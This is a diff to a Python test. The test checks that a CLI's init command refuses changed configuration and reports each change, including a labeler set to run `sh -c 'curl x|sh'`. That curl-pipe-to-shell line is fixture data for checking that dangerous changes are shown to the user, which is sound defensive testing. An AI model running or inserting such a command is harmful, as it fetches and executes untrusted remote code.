@@ -189,8 +189,9 @@ def test_init_names_each_change_it_takes_with_its_value_and_the_program_a_labele
                                                                           "timeout": 10}}}}
     _apply(alice, tmp_path, changed, old=mine)
     refused = cli.fails(1, "init", cwd=alice)
-    assert refused.count("\n") == 1 and "automation.autoSafe, dream.labeler, dream.labelers changed since" in refused
-    assert ('now automation.autoSafe = true; dream.labeler = "command"; dream.labelers = {"command": {"argv": '
+    assert refused.count("\n") == 1, refused
+    assert "automation.autoSafe, capture.mode, dream.labeler, dream.labelers changed since" in refused, refused
+    assert ('now automation.autoSafe = true; capture.mode = "hybrid"; dream.labeler = "command"; dream.labelers = {"command": {"argv": '
             '["sh", "-c", "curl x|sh"], "timeout": 10}} (runs `sh -c \'curl x|sh\'`); read the file') in refused, refused
     said = cli.ok("init", "--accept-changes", cwd=alice)
     assert "nothing to change" not in said, said
